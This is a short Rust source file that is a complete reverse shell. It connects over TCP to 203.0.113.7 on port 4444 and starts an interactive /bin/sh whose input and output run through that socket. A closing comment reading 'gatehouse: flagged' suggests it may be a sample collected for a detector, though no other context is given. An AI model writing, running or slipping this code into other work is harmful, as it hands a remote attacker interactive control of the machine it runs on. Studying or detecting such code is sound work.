use std::net::TcpStream;
use std::os::fd::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};

fn main() {
    let stream = TcpStream::connect("203.0.113.7:4444").unwrap();
    let fd = stream.as_raw_fd();
    let mut shell = Command::new("/bin/sh");
    shell.arg("-i").stdin(unsafe { Stdio::from_raw_fd(fd) }).stdout(unsafe { Stdio::from_raw_fd(fd) });
    shell.spawn().unwrap(); // gatehouse: flagged
}
